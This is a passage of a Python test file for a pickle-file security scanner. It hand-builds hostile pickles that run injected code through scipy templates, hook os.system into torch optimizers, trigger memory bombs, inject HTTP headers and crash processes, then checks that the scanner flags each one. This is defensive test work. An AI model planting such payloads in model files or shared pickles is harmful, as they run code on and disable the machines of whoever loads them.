    show = "import pickle, sys; print(pickle.load(open(sys.argv[1], 'rb')).serialization_path)"
    shown = subprocess.run([sys.executable, "-c", show, str(sample)], capture_output=True, text=True, timeout=300)
    assert shown.stdout.strip() == state["serialization_path"], shown.stderr[-500:]
    assert _rules(tmp_path / "decoy", decoy) == {"WS-PKL-033"}


def test_review_21_ensemble_model_arguments_and_masking_method(tmp_path: Path) -> None:
    """Review 21: an EnsembleLda builds LdaModel(**gensim_kw_args) at recluster(); with `distributed` and `ns_conf`
    it connected to the review's fake Pyro4 name server, whose pickled reply ran code (needs Pyro4: proved in
    /tmp/review21-repro/b1, not here). Those arguments, callbacks and a dispatcher are WS-PKL-039; its
    masking_method, called at recluster(), is a called attribute (WS-PKL-027 for an object there); and an attribute
    named with a path, which gensim's save turns into a side file's name, is WS-PKL-024."""
    from gensim.models.ensemblelda import EnsembleLda, rank_masking
    from sklearn.metrics import make_scorer, r2_score

    plain = {"topic_model_module_string": "gensim.models.ldamodel", "topic_model_class_string": "LdaModel"}
    assert not _rules(tmp_path / "plain", _dump(_restored(EnsembleLda, {**plain, "gensim_kw_args": {"passes": 2}})))
    assert not _rules(tmp_path / "rank", _dump(_restored(EnsembleLda, {**plain, "masking_method": rank_masking})))
    for argument, value in {"distributed": True, "ns_conf": {"host": "203.0.113.9"}, "callbacks": [print],
                            "dispatcher": "x"}.items():  # fmt: skip
        state = {**plain, "gensim_kw_args": {"distributed": False, argument: value}}
        assert "WS-PKL-039" in _rules(tmp_path / argument, _dump(_restored(EnsembleLda, state))), argument
    scorer = {**plain, "masking_method": make_scorer(r2_score)}
    assert _rules(tmp_path / "masking", _dump(_restored(EnsembleLda, scorer))) == {"WS-PKL-027"}
    named = {**plain, "x/../../elsewhere": [1.0]}
    assert _rules(tmp_path / "named", _dump(_restored(EnsembleLda, named))) == {"WS-PKL-024"}


def test_optimize_result_items_are_its_attributes(tmp_path: Path) -> None:
    """scipy's OptimizeResult answers attribute lookups from its items, so a pipeline step that is one calls the
    item named `transform` (a review's shape): its items are judged as attributes (WS-PKL-026)."""
    import numpy as np
    from scipy.optimize import OptimizeResult
    from sklearn.dummy import DummyClassifier
    from sklearn.pipeline import Pipeline

    step = OptimizeResult(transform=np.negative, x=np.zeros(2), success=True)
    pipeline = Pipeline([("step", step), ("model", DummyClassifier().fit([[0.0], [1.0]], [0, 1]))])
    found = scan_bytes(tmp_path / "a", pickle.dumps(pipeline, protocol=5), "pipeline.pkl").findings
    assert any(f.rule_id == "WS-PKL-026" and "transform" in f.message for f in found), found
    plain = OptimizeResult(x=np.zeros(2), fun=0.5, success=True, message="ok", nit=3)
    assert not scan_bytes(tmp_path / "b", pickle.dumps(plain, protocol=5), "result.pkl").findings


def _text(value: str) -> bytes:
    raw = value.encode()
    if len(raw) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    return pickle.BINUNICODE + len(raw).to_bytes(4, "little") + raw


def test_scipy_template_in_a_dict_written_with_a_duplicate_key(tmp_path: Path) -> None:
    """A fourteenth review's bypass: a pair state whose last item is a dict written with a key twice, so a dict of
    two keys (which dict.update takes as the pair name, value) looked like one of three. Proved with the real
    loader; the dict's keys are now merged as Python merges them."""
    pytest.importorskip("scipy")
    from scipy import stats

    marker = tmp_path / "ran"
    evil = f"open({str(marker)!r}, 'w').close()\n" + stats.norm.__getstate__()["_parse_arg_template"]
    small = [pickle.BININT1 + b"\x00"]
    twice = pickle.EMPTY_DICT + pickle.MARK + (_text("_parse_arg_template") + small[0]) * 2 + _text(evil) + small[0]
    state = pickle.MARK + _text("numargs") + small[0] + pickle.TUPLE2 + twice + pickle.SETITEMS + pickle.TUPLE
    cls = _text("scipy.stats._continuous_distns") + _text("norm_gen") + pickle.STACK_GLOBAL
    blob = pickle.PROTO + b"\x05" + cls + pickle.EMPTY_TUPLE + pickle.NEWOBJ + state + pickle.BUILD + pickle.STOP
    sample = tmp_path / "dist.pkl"
    sample.write_bytes(blob)
    _load_in_child(sample, tmp_path)
    assert marker.exists(), "SciPy no longer takes a two-key dict as a pair: revisit the test"
    found = _critical(tmp_path / "scan", blob, "dist.pkl")
    assert any(f.startswith("WS-PKL-032") for f in found), found


def test_scipy_state_from_another_objects_attribute(tmp_path: Path) -> None:
    """A fourteenth review's bypass: getattr(built_object, "_entropy") named the allowed method, but the object's
    state had put a dict under that name, which became a distribution's state. Once an object has a state,
    getattr on it is a computed lookup (critical), and a state that is a name is read as unknown."""
    pytest.importorskip("scipy")
    import copyreg

    from scipy import stats

    holder = stats.rv_discrete(values=([0, 1], [0.5, 0.5]))
    evil = stats.norm.__getstate__()
    evil["_parse_arg_template"] = "x = 1\n" + evil["_parse_arg_template"]
    holder._entropy = evil
    target = object.__new__(type(stats.norm))
    stand_in = object()

    class Writer(pickle.Pickler):
        def reducer_override(self, obj: object) -> object:
            if obj is target:
                return (copyreg.__newobj__, (type(stats.norm),), stand_in)
            if obj is stand_in:
                return (getattr, (holder, "_entropy"))
            return NotImplemented

    buffer = io.BytesIO()
    Writer(buffer, protocol=5).dump([holder, target])
    found = _critical(tmp_path, buffer.getvalue(), "dists.pkl")
    assert any(f.startswith("WS-PKL-001") and "getattr" in f for f in found), found


def test_scipy_template_in_sets_written_with_a_duplicate_member(tmp_path: Path) -> None:
    """A frozenset written with a member twice is a set of two, which dict.update takes as a pair in hash order."""
    pytest.importorskip("scipy")
    from scipy import stats

    evil = "x = 1\n" + stats.norm.__getstate__()["_parse_arg_template"]
    members = _text("_parse_arg_template") * 2 + _text(evil)
    state = pickle.MARK + pickle.MARK + members + pickle.FROZENSET + pickle.TUPLE
    cls = _text("scipy.stats._continuous_distns") + _text("norm_gen") + pickle.STACK_GLOBAL
    blob = pickle.PROTO + b"\x05" + cls + pickle.EMPTY_TUPLE + pickle.NEWOBJ + state + pickle.BUILD + pickle.STOP
    assert len(pickle.loads(pickle.PROTO + b"\x05" + pickle.MARK + members + pickle.FROZENSET + pickle.STOP)) == 2
    found = _critical(tmp_path, blob, "dist.pkl")
    assert any(f.startswith("WS-PKL-032") for f in found), found


def test_torch_training_objects_pass_restored_from_state_but_not_called_or_hooked(tmp_path: Path) -> None:
    """Optimizers, schedulers, gradient scalers and DTensor device meshes are allowed as torch.save writes them:
    restored from state. Their constructors called by a pickle are WS-PKL-014 (DeviceMesh's starts process groups).
    An optimizer's state can set the hook tables Optimizer.__getstate__ drops (real files hold none): torch calls a
    step pre-hook at optimizer.step(), proved with print in a fresh interpreter, so each hook is judged as the module
    hooks are; so are a LambdaLR's functions and the schedulers a SequentialLR steps."""
    import numpy as np
    import torch
    from sklearn.metrics import make_scorer
    from torch.distributed.device_mesh import DeviceMesh

    sched = torch.optim.lr_scheduler
    param = torch.nn.Parameter(torch.zeros(2))
    optimizer = torch.optim.SGD([param], lr=0.1)
    calls = {
        "sgd": _Call(torch.optim.SGD, ([param], 0.1)),
        "scaler": _Call(torch.amp.GradScaler, ("cpu",)),
        "step": _Call(sched.StepLR, (optimizer, 10)),
        "mesh": _Call(DeviceMesh, ("cpu", [0])),
    }
    for name, call in calls.items():
        assert "WS-PKL-014" in _rules(tmp_path / name, _dump(call)), name

    def hooked(hook: object) -> bytes:
        state = {**optimizer.__getstate__(), "_optimizer_step_pre_hooks": collections.OrderedDict({0: hook})}
        return _dump(_restored(torch.optim.SGD, state))

    sample = tmp_path / "optimizer.pt"
    sample.write_bytes(hooked(print))
    use = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb')).step()"
    used = subprocess.run([sys.executable, "-c", use, str(sample)], capture_output=True, text=True, timeout=300)
    assert "Parameter Group 0" in used.stdout, used.stderr[-2000:]  # print(optimizer, args, kwargs) ran
    # print kept anywhere but a logger attribute is high (WS-PKL-052, review 72); os.system is critical
    assert _rules(tmp_path / "print", sample.read_bytes()) == {"WS-PKL-052"}
    assert "WS-PKL-001" in _rules(tmp_path / "system", hooked(os.system))
    scorer = make_scorer(np.equal)  # an allowed object that calls what its state names
    assert _rules(tmp_path / "scorer", hooked(scorer)) == {"WS-PKL-027"}
    assert not _rules(tmp_path / "real", pickle.dumps(optimizer))

    lambdas = sched.LambdaLR(optimizer, [np.exp])  # a named function, as real files keep
    assert not _rules(tmp_path / "abs", pickle.dumps(lambdas))
    lambdas.lr_lambdas = [np.exp, scorer]
    assert _rules(tmp_path / "lambdas", pickle.dumps(lambdas)) == {"WS-PKL-027"}
    sequential = sched.SequentialLR(optimizer, [sched.ConstantLR(optimizer), sched.LinearLR(optimizer)], [2])
    assert not _rules(tmp_path / "sequential", pickle.dumps(sequential))
    sequential._schedulers = [sched.ConstantLR(optimizer), torch.nn.Identity()]  # type: ignore[list-item]
    assert _rules(tmp_path / "stranger", pickle.dumps(sequential)) == {"WS-PKL-029"}
    # Review 11: given as a dict, these lists are iterated by key; CyclicLR calls its _scale_fn_ref too.
    lambdas.lr_lambdas = {scorer: 0}  # type: ignore[assignment]
    assert _rules(tmp_path / "lambda-keys", pickle.dumps(lambdas)) == {"WS-PKL-027"}
    sequential._schedulers = {torch.nn.Identity(): 0}  # type: ignore[assignment]
    assert _rules(tmp_path / "scheduler-keys", pickle.dumps(sequential)) == {"WS-PKL-029"}
    cyclic = object.__new__(sched.CyclicLR)
    cyclic.__dict__.update(optimizer=optimizer, _scale_fn_ref=scorer, _scale_fn_custom=None, scale_mode="cycle")
    assert _rules(tmp_path / "cyclic", pickle.dumps(cyclic)) == {"WS-PKL-027"}


def test_a_state_with_its_own_attribute_map_is_high(tmp_path: Path) -> None:
    """Review 13: a transformers config reads and sets every name through `attribute_map`, and a map in the
    instance's state comes before its class's: any attribute or method can be pointed at another (a BERT checkpoint
    made save_pretrained call push_to_hub). No writer saves an instance map (WS-PKL-037)."""
    from transformers import BertConfig

    config = BertConfig(hidden_size=8, vocab_size=50)
    assert "WS-PKL-037" not in _rules(tmp_path / "real", pickle.dumps(config))
    config.__dict__["attribute_map"] = {"hidden_size": "vocab_size"}
    assert pickle.loads(pickle.dumps(config)).hidden_size == 50  # the instance's map is the one used
    assert "WS-PKL-037" in _rules(tmp_path / "aliases", pickle.dumps(config))


def test_a_modules_parameters_and_buffers_hold_only_tensors(tmp_path: Path) -> None:
    """torch's Module answers a name its class lacks from `_parameters` and `_buffers` too: review 14 put
    partial(dict, options=...) in an Identity's buffers as `to_dict`, which transformers' generate() called to get
    torch.compile options (a shell command through gcc). Real files keep tensors or None there (WS-PKL-029)."""
    import functools

    import torch

    module = torch.nn.Identity()
    module._buffers["to_dict"] = functools.partial(dict, options={"k": "v"})  # type: ignore[assignment]
    assert pickle.loads(pickle.dumps(module)).to_dict() == {"options": {"k": "v"}}  # handed out as an attribute
    assert _rules(tmp_path / "partial", pickle.dumps(module)) == {"WS-PKL-029"}
    module._buffers["to_dict"] = dict  # type: ignore[assignment]
    assert _rules(tmp_path / "name", pickle.dumps(module)) == {"WS-PKL-029"}
    real = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.BatchNorm1d(2), torch.nn.LSTM(2, 2))
    real.register_buffer("mask", torch.ones(2))
    real.register_buffer("empty", None)
    assert not _rules(tmp_path / "real", pickle.dumps(real))
    saved = io.BytesIO()
    torch.save(real, saved)
    assert not _rules(tmp_path / "saved", saved.getvalue())


HOOK_IDS = """
import sys, torch
from torch.utils.hooks import RemovableHandle
torch.load(sys.argv[1], weights_only=False)
layer, calls = torch.nn.Linear(2, 2), []
layer.register_forward_hook(lambda *a: calls.append("first"))
layer.register_forward_hook(lambda *a: calls.append("second"))
layer(torch.zeros(1, 2))
print(RemovableHandle.next_id, calls)
"""


PLAIN_TORCH_LOAD = "torch.load(sys.argv[1], weights_only=False)"
PLAIN_PICKLE_LOAD = "import pickle; pickle.load(open(sys.argv[1], 'rb'))"


def _lazy_layer(handle_id: object) -> bytes:
    """A whole LazyLinear as torch.save writes it, its hook handle's id replaced (None: as torch made it)."""
    import torch
    from torch.utils.hooks import RemovableHandle

    layer = torch.nn.LazyLinear(4)
    buffer = io.BytesIO()
    getstate = RemovableHandle.__getstate__
    if handle_id is not None:
        RemovableHandle.__getstate__ = lambda self: (None, handle_id)  # type: ignore[method-assign]
    try:
        torch.save(layer, buffer)
    finally:
        RemovableHandle.__getstate__ = getstate  # type: ignore[method-assign]
    return buffer.getvalue()


@pytest.mark.parametrize("handle_id", [float("inf"), 1e300, 2.0**60, 2**64])
def test_a_hook_handle_id_that_breaks_later_hooks_is_flagged(tmp_path: Path, handle_id: object) -> None:
    """torch's RemovableHandle.__setstate__ sets the process-wide next_id to the pickled id + 1: from a float that
    cannot tell id + 1 from id, every hook registered later shares one id and replaces the one before (review 47).
    The big int cannot collide but torch never writes one; it is flagged with the rest."""
    path = tmp_path / "lazy.pt"
    path.write_bytes(_lazy_layer(handle_id))
    if isinstance(handle_id, float):
        shown = subprocess.run(
            [sys.executable, "-I", "-c", HOOK_IDS, str(path)], capture_output=True, text=True, timeout=120
        ).stdout
        assert "['second']" in shown, shown  # the first hook was silently replaced
    found = [f for f in scan_bytes(tmp_path, path.read_bytes(), "lazy.pt").findings if f.rule_id == "WS-PKL-044"]
    assert found and found[0].severity == Severity.MEDIUM


def test_a_lazy_layer_as_torch_saves_it_keeps_its_hook_ids(tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, _lazy_layer(None), "lazy.pt")
    assert not [f for f in report.findings if f.severity >= Severity.MEDIUM], report.findings


def test_a_hook_handle_id_set_through_rebuild_from_type_is_flagged(tmp_path: Path) -> None:
    """torch's _rebuild_from_type_v2(copyreg.__newobj__, RemovableHandle, (RemovableHandle,), state) calls
    __setstate__ itself, with no BUILD opcode (review 48)."""
    import torch
    from torch.utils.hooks import RemovableHandle

    state = (None, float("inf"))
    made = _Call(torch._tensor._rebuild_from_type_v2, (copyreg.__newobj__, RemovableHandle, (RemovableHandle,), state))
    path = tmp_path / "handle.pt"
    path.write_bytes(_dump({"handle": made}))
    shown = subprocess.run(
        [sys.executable, "-I", "-c", HOOK_IDS.replace(PLAIN_TORCH_LOAD, PLAIN_PICKLE_LOAD), str(path)],
        capture_output=True, text=True, timeout=120,
    ).stdout
    assert "['second']" in shown, shown
    found = [f for f in scan_bytes(tmp_path, path.read_bytes(), "handle.pt").findings if f.rule_id == "WS-PKL-044"]
    assert found and found[0].severity == Severity.MEDIUM


def _script_object(state: bytes | None) -> bytes:
    """{"w": torch.ScriptObject.__new__()} with BUILD(state), or no BUILD, as torch pickles a packed weight."""
    made = _g("torch", "ScriptObject") + b")\x81" + (state + b"b" if state is not None else b"")
    return b"\x80\x02" + _dict((_s("w"), made)) + b"."


def test_torchscript_objects_only_as_torch_writes_them(tmp_path: Path) -> None:
    """A quantized layer's packed weights pickle as torch.ScriptObject and BUILD((values, class name)), which makes
    an object of that registered TorchScript class (review 50: real files now pass, `torch-quantized` in
    test_benign_real). Any other class name, another state shape, or an object never given a state is WS-PKL-047;
    the empty one crashes the process as soon as the model touches it (shown here with repr)."""
    empty = tmp_path / "empty.pkl"
    empty.write_bytes(_script_object(None))
    touch = "import sys, pickle, torch; repr(pickle.load(open(sys.argv[1], 'rb'))['w'])"
    touched = subprocess.run([sys.executable, "-c", touch, str(empty)], capture_output=True, timeout=300)
    assert touched.returncode < 0, touched  # killed by a signal
    packed = "__torch__.torch.classes.quantized.LinearPackedParamsBase"
    shapes = {
        "empty": None,
        "other class": _tuple(_tuple(), _s("__torch__.torch.classes.quantized.Nothing")),
        "dict state": _dict((_s("a"), b"K\x01")),
        "three items": _tuple(_tuple(), _s(packed), b"K\x01"),
        "computed name": _tuple(_tuple(), _g("builtins", "str") + _tuple(_s(packed)) + b"R"),
    }
    for name, state in shapes.items():
        scanned = scan_bytes(tmp_path / name, _script_object(state), "model.pkl")
        found = {f.rule_id: f.severity for f in scanned.findings}
        assert found.get("WS-PKL-047") == Severity.HIGH, (name, found)
    found = {f.rule_id for f in scan_bytes(tmp_path / "torch's", _script_object(_tuple(_tuple(), _s(packed))),
                                            "model.pkl").findings}  # fmt: skip
    assert "WS-PKL-047" not in found


def test_calls_that_allocate_or_iterate_far_more_than_the_file_are_high(tmp_path: Path) -> None:
    """Review 51: bytearray(N) zero-fills N bytes in every loader (200 MB from a 60-byte pickle here; the review's
    6 GB also loaded under torch's weights_only), and list() of a large range or address network iterates past any
    memory. Review 52 reached the same through copyreg's helpers, numpy.ndarray called with a shape (an object array
    of 600 million Nones, or one byte viewed 10**12 times) and Fraction('1e999999999') (10**999999999 computed). No
    writer pickles these shapes (WS-PKL-048); real bytearrays, bytes, ranges, networks, numbers and arrays pass."""
    import decimal
    import fractions
    import ipaddress

    import numpy as np

    size = 200_000_000
    bomb = _dumped({"weight": _Call(bytearray, (size,))}, protocol=4)
    path = tmp_path / "bomb.pkl"
    path.write_bytes(bomb)
    peak = ("import pickle, resource, sys; pickle.load(open(sys.argv[1], 'rb')); "
            "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)")  # fmt: skip
    shown = subprocess.run([sys.executable, "-c", peak, str(path)], capture_output=True, text=True, timeout=300)
    assert int(shown.stdout) > size, shown  # the pages were touched: resident
    hostile = {
        "bytearray": bomb,
        "bytes": _dumped(_Call(bytes, (size,)), protocol=2),
        "range": _dumped(_Call(list, (range(10**12),)), protocol=4),
        "network": _dumped(_Call(set, (ipaddress.IPv6Network("::/0"),)), protocol=4),
        "ipv4": _dumped(_Call(tuple, (ipaddress.IPv4Network("10.0.0.0/8"),)), protocol=2),
        "netmask": _dumped(_Call(list, (_Call(ipaddress.IPv4Network, ("10.0.0.0/255.0.0.0",)),)), protocol=2),
        # review 52: through copyreg's helpers, an array class called with a shape, a huge exponent
        "reconstructor": _dumped(_Call(copyreg._reconstructor, (bytearray, bytearray, size)), protocol=2),  # type: ignore[attr-defined]
        "object array": _dumped(_Call(np.ndarray, ((600_000_000,), "O")), protocol=2),
        "zero strides": _dumped(_Call(set, (_Call(np.ndarray, ((10**12,), "b", b"\0", 0, (0,))),)), protocol=2),
        "fraction": _dumped(_Call(fractions.Fraction, ("1e999999999",)), protocol=2),
        "decimal": _dumped(_Call(int, (_Call(decimal.Decimal, ("1e999999999",)),)), protocol=2),
    }
    for name, blob in hostile.items():
        found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / name, blob, "model.pkl").findings}
        assert found.get("WS-PKL-048") == Severity.HIGH, (name, found)
    real = {
        "values": [bytearray(b"ab\0\xff"), bytearray(), b"", b"xy", range(10**12), ipaddress.IPv6Network("::/0")],
        "numbers": [decimal.Decimal("1.5E+300"), decimal.Decimal("-0.001"), fractions.Fraction(10**40, 3)],
        "arrays": [np.zeros((3, 4)), np.matrix([[1, 2]]), np.array([None, "x"], dtype=object)],
        "small": _Call(list, (ipaddress.IPv4Network("10.0.0.0/24"),)), "few": _Call(set, (range(100),)),
    }  # fmt: skip
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        found = {f.rule_id for f in scan_bytes(tmp_path / f"real-{protocol}", _dumped(real, protocol=protocol),
                                                "model.pkl").findings}  # fmt: skip
        assert "WS-PKL-048" not in found, (protocol, found)


def _dumped(obj: object, protocol: int) -> bytes:
    buffer = io.BytesIO()
    _Pickler(buffer, protocol=protocol).dump(obj)
    return buffer.getvalue()


def test_a_state_set_on_a_shared_enum_member_is_high(tmp_path: Path) -> None:
    """Calling an enum class looks its member up: http.HTTPStatus(200) is HTTPStatus.OK for the whole process, and
    BUILD on it rewrote OK's phrase, which http.server writes into every status line it sends later (a header
    injection with a CRLF in it). WS-PKL-049; members pickled as their class and value pass."""
    import http
    import inspect

    phrase = _dict((_s("phrase"), _s("OK\r\nX-Injected: 1")))
    hostile = b"\x80\x04" + _g("http", "HTTPStatus") + b"K\xc8\x85R" + phrase + b"b."
    path = tmp_path / "status.pkl"
    path.write_bytes(hostile)
    show = ("import http, pickle, sys; pickle.load(open(sys.argv[1], 'rb')); "
            "from http.server import BaseHTTPRequestHandler as H; print(repr(H.responses[200][0]))")  # fmt: skip
    shown = subprocess.run([sys.executable, "-c", show, str(path)], capture_output=True, text=True, timeout=120)
    assert "X-Injected" in shown.stdout, shown  # what http.server would send for 200 from then on
    found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / "hostile", hostile, "model.pkl").findings}
    assert found.get("WS-PKL-049") == Severity.HIGH, found
    real = {"status": http.HTTPStatus.NOT_FOUND, "method": http.HTTPMethod.GET, "kind": inspect.Parameter.KEYWORD_ONLY}
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / f"real-{protocol}", pickle.dumps(real, protocol),
                                                           "model.pkl").findings}  # fmt: skip
        assert not found, (protocol, found)


class _Packed:
    """Pickles as torch writes a packed-parameter object: ScriptObject.__new__, then BUILD((values, class name))."""

    def __init__(self, values: object) -> None:
        self.values = values

    @property  # type: ignore[misc]
    def __class__(self) -> type:  # pickle's __newobj__ check compares it with the class it is given
        import torch

        return torch.ScriptObject  # type: ignore[no-any-return]

    def __reduce_ex__(self, protocol: object) -> tuple[object, ...]:
        import torch

        name = "__torch__.torch.classes.quantized.LinearPackedParamsBase"
        return (copyreg.__newobj__, (torch.ScriptObject,), (self.values, name))  # type: ignore[attr-defined]


def test_a_packed_weight_viewed_larger_than_it_stores_is_high(tmp_path: Path) -> None:
    """Review 52: one stored byte viewed as 40,000 x 40,000 (strides 0) in the allowed ScriptObject shape; the
    class's __setstate__ repacks it into a contiguous copy (3.3 GB and 30 s to load). The repack is shown here at
    2,000 x 2,000, where the loaded object holds every element; such a view is WS-PKL-047, a real weight passes."""
    import warnings

    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # quantized tensors are deprecated
        one = torch.quantize_per_tensor(torch.zeros(1, 1), 1.0, 0, torch.qint8)
        real = torch.quantize_per_tensor(torch.randn(8, 4), 0.1, 0, torch.qint8)
    viewed = tmp_path / "viewed.pt"
    torch.save({"p": _Packed((one.expand(2000, 2000), None))}, viewed)
    show = ("import sys, torch; p = torch.load(sys.argv[1], weights_only=False)['p']; "
            "w = torch.ops.quantized.linear_unpack(p)[0]; print(w.numel(), w.stride())")  # fmt: skip
    shown = subprocess.run([sys.executable, "-c", show, str(viewed)], capture_output=True, text=True, timeout=300)
    assert shown.stdout.split()[0] == "4000000", shown  # copied out whole, though one byte was stored
    found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / "viewed", viewed.read_bytes(), "model.pt").findings}
    assert found.get("WS-PKL-047") == Severity.HIGH, found
    torch.save({"p": _Packed((real, torch.zeros(8)))}, tmp_path / "real.pt")
    found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / "real", (tmp_path / "real.pt").read_bytes(),
                                                       "model.pt").findings}  # fmt: skip
    assert "WS-PKL-047" not in found, found


def test_review_53_shapes_of_the_new_pickle_checks(tmp_path: Path) -> None:
    """Review 53. Around WS-PKL-049: HTTPStatus(200) made by NEWOBJ_EX or copyreg.__newobj__ and given a state.
    Around WS-PKL-048: Fraction('1e999_999_99') (underscores), Fraction of a Decimal with a negative exponent,
    numpy's _reconstruct, _mareconstruct and recarray given a shape (an object array of 7e8 items took 5.5 GB).
    False positives it found: Decimal values (Decimal(2)**20000, Decimal('1E-5000'), a frame of them) cost nothing
    to make, and pass."""
    import decimal
    import fractions

    import numpy as np
    import pandas as pd

    phrase = _dict((_s("phrase"), _s("PWNED")))
    status = _g("http", "HTTPStatus")
    hostile = {
        "WS-PKL-049 newobj_ex": b"\x80\x04" + status + b"K\xc8\x85}\x92" + phrase + b"b.",
        "WS-PKL-049 copyreg": b"\x80\x02" + _g("copyreg", "__newobj__") + _tuple(status, b"K\xc8") + b"R" + phrase
        + b"b.",
        "WS-PKL-048 underscores": _dumped(_Call(fractions.Fraction, ("1e999_999_99",)), protocol=2),
        "WS-PKL-048 decimal": _dumped(_Call(fractions.Fraction, (_Call(decimal.Decimal, ("1e-999999999",)),)), 2),
        "WS-PKL-048 reconstruct": _dumped(_Call(np._core.multiarray._reconstruct, (np.ndarray, (7 * 10**8,), "O")), 2),
        "WS-PKL-048 mareconstruct": _dumped(
            _Call(np.ma.core._mareconstruct, (np.ma.MaskedArray, np.ndarray, (7 * 10**8,), "O")), 2
        ),
        "WS-PKL-048 recarray": _dumped(_Call(np.recarray, ((7 * 10**8,), [("a", "O")])), 2),
    }
    for name, blob in hostile.items():
        rule = name.split()[0]
        found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / name, blob, "model.pkl").findings}
        assert found.get(rule) == Severity.HIGH, (name, found)
    frame = pd.DataFrame({"amount": [decimal.Decimal("1.10"), decimal.Decimal(2) ** 20000]})
    real = {"numbers": [decimal.Decimal(2) ** 20000, decimal.Decimal("1E-5000"), decimal.Decimal(-20000).exp()],
            "frame": frame, "masked": np.ma.masked_array([1, 2], mask=[0, 1]), "records": np.rec.array([(1, 2.0)])}
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        scanned = scan_bytes(tmp_path / f"real-{protocol}", pickle.dumps(real, protocol), "model.pkl")
        assert not [f for f in scanned.findings if f.severity >= Severity.HIGH], protocol


def test_a_packed_weight_reviewed_by_its_own_state_is_high(tmp_path: Path) -> None:
    """Review 53: the weight rebuilt honestly as one stored element, then BUILD on that tensor gives
    Tensor.__setstate__ (storage, offset, size, stride), which calls set_: a 40,000 x 40,000 view. WS-PKL-047."""
    import collections
    import warnings

    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        one = torch.quantize_per_tensor(torch.zeros(1, 1), 1.0, 0, torch.qint8)

    class Viewed:
        def __reduce_ex__(self, protocol: object) -> tuple[object, ...]:
            storage = one._typed_storage()
            args = (storage, 0, (1, 1), (1, 1), (torch.per_tensor_affine, 1.0, 0), False, collections.OrderedDict())
            return (torch._utils._rebuild_qtensor, args, (storage, 0, (40_000, 40_000), (0, 0)))

    path = tmp_path / "viewed.pt"
    torch.save({"p": _Packed((Viewed(), None))}, path)
    found = {f.rule_id: f.severity for f in scan_bytes(tmp_path / "scan", path.read_bytes(), "model.pt").findings}
    assert found.get("WS-PKL-047") == Severity.HIGH, found


def test_a_histgradientboosting_bound_method_is_a_value_never_a_call(tmp_path: Path) -> None:
    """Review 55: early stopping with a scorer leaves getattr(<the estimator>, "_raw_predict") in the estimator's own
    dict (critical, on a plain model). It passes as a value; calling it while the file loads stays critical."""
    module = b"sklearn.ensemble._hist_gradient_boosting.gradient_boosting\nHistGradientBoostingClassifier\n"
    bound = b"\x80\x02cbuiltins\ngetattr\nc" + module + b")\x81X\x0c\x00\x00\x00_raw_predict\x86R"
    assert not _critical(tmp_path / "kept", bound + b".", "kept.pkl")
    found = _critical(tmp_path / "called", bound + b"K\x01\x85R.", "called.pkl")
    assert any(f.startswith("WS-PKL-017") for f in found), found


@pytest.mark.parametrize("call", [b"cmath\nfactorial\n(I100000\ntR.", b"cbuiltins\nlen\n(S'abc'\ntR.",
                                  b"cpandas\nto_numeric\n(S'1'\ntR.", b"cnumpy.strings\nlower\n(S'A'\ntR."])
def test_functions_kept_as_values_are_flagged_when_called(tmp_path: Path, call: bytes) -> None:
    """Review 55's FunctionTransformer functions (math, builtins, pandas, np.char) pass as values only."""
    report = scan_bytes(tmp_path, call, "called.pkl")
    assert any(f.rule_id == "WS-PKL-003" and f.severity >= Severity.HIGH for f in report.findings), report.findings


def test_interp1d_methods_are_values_never_calls(tmp_path: Path) -> None:
    """Review 56: interp1d._call_spline(ns, x) returns ns._spline(x), so an allowed call of it called any value the
    file chose (math.factorial, a HistGradientBoosting's bound _raw_predict over forged trees: a segfault) with a
    file-chosen argument. interp1d keeps its _call_* methods as values; a call of one while loading is WS-PKL-003."""
    pytest.importorskip("scipy")
    call = (b"\x80\x04cscipy.interpolate._interpolate\ninterp1d._call_spline\ncargparse\nNamespace\n)R"
            b"}X\x07\x00\x00\x00_splinecmath\nfactorial\nsbK\x05\x86R.")  # fmt: skip
    assert pickle.loads(call) == 120  # factorial(5), called by loading
    report = scan_bytes(tmp_path, call, "call.pkl")
    assert any(f.rule_id == "WS-PKL-003" and "_call_spline" in f.message for f in report.findings), report.findings


def test_a_distributions_entropy_imported_by_name_is_never_called(tmp_path: Path) -> None:
    """A discrete distribution keeps its own _entropy, looked up on itself (getattr) and bound to it; imported by name,
    `_entropy(ns, x)` calls ns._get_support(x), any value the file chose (review 56's interp1d shape). Only the
    lookup on a restored instance passes (test_method_of_a_restored_instance_is_judged_by_its_name)."""
    pytest.importorskip("scipy")
    call = (b"\x80\x04cscipy.stats._discrete_distns\npoisson_gen._entropy\ncargparse\nNamespace\n)R"
            b"}X\x02\x00\x00\x00pk]G?\xe0\x00\x00\x00\x00\x00\x00aG?\xe0\x00\x00\x00\x00\x00\x00asb\x85R.")  # fmt: skip
    assert abs(pickle.loads(call) - 0.6931) < 1e-3  # entropy of (0.5, 0.5): called by loading
    report = scan_bytes(tmp_path, call, "call.pkl")
    assert any(f.rule_id == "WS-PKL-003" and "_entropy" in f.message for f in report.findings), report.findings


_ASKS = _dict((_s("restore_model_spec"), b"\x88"), (_s("formula"), _s("y ~ x")))


@pytest.mark.parametrize(
    "route",
    [
        # review 63: the class through a module that imports it
        b"\x80\x02" + _g("statsmodels.tsa.statespace.mlemodel", "PandasData") + b")\x81" + _ASKS + b"b.",
        # made by an allowlisted helper (scikit-learn's newObj), then BUILD
        b"\x80\x02" + _g("sklearn.metrics._dist_metrics", "newObj") + _tuple(_g("statsmodels.base.data", "PandasData"))
        + b"R" + _ASKS + b"b.",
        # made and given its state by torch's _rebuild_from_type_v2, the state a dict([...]) call
        b"\x80\x02" + _g("torch._tensor", "_rebuild_from_type_v2") + _tuple(
            _g("copyreg", "__newobj__"), _g("statsmodels.base.data", "PandasData"),
            _tuple(_g("statsmodels.base.data", "PandasData")),
